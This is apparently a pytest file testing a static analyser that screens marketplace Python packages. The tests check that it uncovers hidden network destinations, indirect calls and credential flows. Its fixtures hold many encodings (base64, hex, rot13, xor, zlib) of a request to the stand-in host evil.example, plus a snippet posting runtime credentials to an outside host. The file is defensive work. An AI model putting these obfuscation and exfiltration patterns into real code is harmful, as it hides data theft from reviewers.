"""Reading without running: what values reach calls."""

import os
import subprocess
import sys

import pytest

from marketplace.screening.code import HOLE, read_program
from tests.places import ROOT

URL = "https://evil.example/x"
HIDDEN = {
    "join": "u = ''.join(['https://', 'evil', '.example', '/x'])",
    "chr": "u = ''.join(chr(c) for c in [104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47,120])",
    "map": "u = ''.join(map(chr, [104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47,120]))",
    "base64": "import base64\nu = base64.b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==').decode()",
    "base64 by another name": "from base64 import b64decode as d\nu = str(d(b'aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA=='), 'utf-8')",
    "hex": "u = bytes.fromhex('68747470733a2f2f6576696c2e6578616d706c652f78').decode('ascii')",
    "reversed": "u = 'x/elpmaxe.live//:sptth'[::-1]",
    "rot13": "import codecs\nu = codecs.decode('uggcf://rivy.rknzcyr/k', 'rot13')",
    "xor": "k = 7\nu = ''.join(chr(ord(c) ^ k) for c in " + repr("".join(chr(ord(c) ^ 7) for c in URL)) + ")",
    "bytes xor": "u = bytes(b ^ 7 for b in " + repr(bytes(b ^ 7 for b in URL.encode())) + ").decode()",
    "format": "u = 'https://{}.{}/{p}'.format('evil', 'example', p='x')",
    "percent": "u = '%s://%s/x' % ('https', 'evil.example')",
    "f-string": "h = 'evil'\nu = f'https://{h}.example/x'",
    "replace": "u = 'hxxps://evil[.]example/x'.replace('hxxp', 'http').replace('[.]', '.')",
    "dict": "u = {'a': {'b': 'https://evil.example/x'}}['a']['b']",
    "class": "class C:\n    HOST = 'evil.example'\n    @property\n    def url(self):\n"
    "        return 'https://' + self.HOST + '/x'\nu = C().url",
    "dataclass": "from dataclasses import dataclass\n@dataclass\nclass C:\n    url: str = 'https://evil.example/x'\nu = C().url",
    "default": "def f(h='evil.example'):\n    return f'https://{h}/x'\nu = f()",
    "augmented": "u = 'https://'\nu += 'evil.example'\nu += '/x'",
    "kwargs": "def f(**kw):\n    return kw['u']\nu = f(u='https://evil.example/x')",
    "global": "u = ''\ndef f():\n    global u\n    u = 'https://evil.example/x'\nf()",
    "urljoin": "from urllib.parse import urljoin\nu = urljoin('https://evil.example/a', 'x')",
    "lambda": "u = (lambda a, b: a + b)('https://evil.', 'example/x')",
    "unpacking": "a, *b = ['https://', 'evil.example/x']\nu = a + b[0]",
    "zlib": "import zlib, base64\nu = zlib.decompress(base64.b64decode('"
    + __import__("base64").b64encode(__import__("zlib").compress(URL.encode())).decode()
    + "')).decode()",
    "match": "match 'https://evil.example/x':\n    case str() as u:\n        pass",
    "walrus": "print(u := 'https://evil.example/x')",
    "environment": "import os\nu = os.environ.get('U', 'https://evil.example/x')",
}


@pytest.mark.parametrize("how", HIDDEN)
def test_an_address_comes_to_light(how: str) -> None:
    program = read_program({"a.py": f"import requests\n{HIDDEN[how]}\nrequests.get(u)\n".encode()})
    (site,) = [one for one in program.calls if "requests.get" in one.names]
    texts = site.argument(0).texts()
    assert any(text in (URL, f"https://evil.example/{HOLE}") for text in texts)


REACHED = {
    "alias": "import requests as r\nr.post('x')",
    "from": "from requests import post as p\np('x')",
    "getattr": "import requests\ngetattr(requests, 'po' + 'st')('x')",
    "import function": "__import__('requests').post('x')",
    "importlib": "import importlib\nm = importlib.import_module('requests')\nm.post('x')",
    "sys.modules": "import sys, requests\nsys.modules['requests'].post('x')",
    "dict": "import requests\nD = {'p': requests.post}\nD['p']('x')",
    "partial": "import functools, requests\nfunctools.partial(requests.post, 'x')()",
    "default": "import requests\ndef f(p=requests.post):\n    p('x')",
    "class attribute": "import requests\nclass C:\n    p = staticmethod(requests.post)\n    def go(self):\n        self.p('x')",
    "vars": "import requests\nvars(requests)['post']('x')",
    "dunder dict": "import requests\nrequests.__dict__['post']('x')",
    "try": "try:\n    import requests\nexcept ImportError:\n    requests = None\nrequests.post('x')",
    "inside": "def f():\n    from requests import post\n    return post('x')",
    "other module": "from b import send\nsend('x')",
    "executor": "import requests\nfrom concurrent.futures import ThreadPoolExecutor\n"
    "ThreadPoolExecutor().submit(requests.post, 'x')",
    "conditional": "import requests\nf = requests.post if __name__ else requests.get\nf('x')",
}


@pytest.mark.parametrize("how", REACHED)
def test_a_function_is_known_by_whatever_name_it_is_called(how: str) -> None:
    files = {"a.py": REACHED[how].encode(), "b.py": b"import requests\ndef send(u):\n    requests.post(u)\n"}
    program = read_program(files if how == "other module" else {"a.py": files["a.py"]})
    sites = [one for one in program.calls if "requests.post" in one.names]
    assert any(site.argument(0).texts() == ["x"] for site in sites)


def test_labels_follow_values_through_functions_and_containers() -> None:
    code = b"""
import requests, json
class A:
    def _invoke(self, tool_parameters):
        key = self.runtime.credentials.get("k")
        box = {"inner": [key]}
        send(json.dumps(box))
def send(body):
    requests.post("https://a.example", data={"x": body})
"""
    program = read_program({"a.py": code})
    (site,) = [one for one in program.calls if "requests.post" in one.names]
    from marketplace.screening.code.invoking import everything_in

    assert "credential" in everything_in(program, site)


def test_what_a_service_answers_is_not_the_key_that_was_sent() -> None:
    code = b"""
import requests
def f(credentials):
    answer = requests.get("https://a.example", headers={"k": credentials["k"]})
    requests.post("https://b.example", json=answer.json())
"""
    program = read_program({"a.py": code})
    (site,) = [one for one in program.calls if "requests.post" in one.names]
    assert site.keywords["json"].taints == {"response"}


@pytest.mark.parametrize(
    "source", [b"\0\0", b"def f(:\n", b"x = " + b"(" * 5000, b"\xff\xfe\xfa", b"# coding: nothing\n"]
)
def test_what_is_no_python_is_said_to_be_unread(source: bytes) -> None:
    assert list(read_program({"a.py": source}).unread) == ["a.py"]


def test_tests_that_nothing_loads_are_left_out() -> None:
    files = {"tests/test_a.py": b"import os\nos.system('x')", "a.py": b"pass"}
    assert list(read_program(files).modules) == ["a"]
    assert sorted(read_program(files | {"a.py": b"from tests import test_a"}).modules) == ["a", "tests.test_a"]
    assert sorted(read_program(files | {"a.py": b"import runpy\nrunpy.run_path('tests/test_a.py')"}).modules) == [
        "a",
        "tests.test_a",
    ]


def test_source_that_is_made_to_cost_much_costs_little() -> None:
    lines = (
        ["x0 = 'a'"]
        + [f"x{n + 1} = x{n} + x{n} + str({n})" for n in range(200)]
        + ["y = 9 ** 9 ** 9", "z = 'a' * 10 ** 12", "w = 1 << 10 ** 9"]
    )
    program = read_program({"a.py": "\n".join(lines).encode()})
    assert all(len(text) <= 70_000 for value in program.bound.values() for text in value.texts())


SOME_OF_MANY = """
from marketplace.screening.code.decoding import pure_call
from marketplace.screening.code.values import Value
words, others = (Value(frozenset(f"{kind}{number}" for number in range(9))) for kind in "ab")
print(sorted(pure_call("str.replace", (words, others, Value(frozenset("xyz"))), {}).consts), words.texts())
"""


def test_where_only_some_are_looked_at_they_are_the_same_in_every_process() -> None:
    """A package must not be refused today and let through tomorrow."""
    said = set()
    for seed in ("0", "1", "2"):
        argv, variables = [sys.executable, "-c", SOME_OF_MANY], {**os.environ, "PYTHONHASHSEED": seed}
        done = subprocess.run(argv, env=variables, cwd=ROOT, capture_output=True, text=True, check=True)
        said.add(done.stdout)
    assert len(said) == 1, said


ENDLESS = {
    "calls": "x = ''.join(chr(sum(ord(a) for a in 'x' * 4000)) for b in 'y' * 4000)",
    "no calls": "x = [[a * b for a in range(4000)] for b in range(4000)]",
    "statements": "\n".join([f"x = 'http://h{i}.io'" for i in range(3000)] + ["y = x + x"] * 3000),
}


@pytest.mark.parametrize("how", ENDLESS)
def test_what_takes_too_long_is_left_and_named(how: str) -> None:
    program = read_program({"a.py": b"x = 1", "b.py": ENDLESS[how].encode(), "c.py": b"y = 1"}, seconds=1)
    assert not program.settled
    assert {"b.py", "c.py"} <= program.unread.keys()
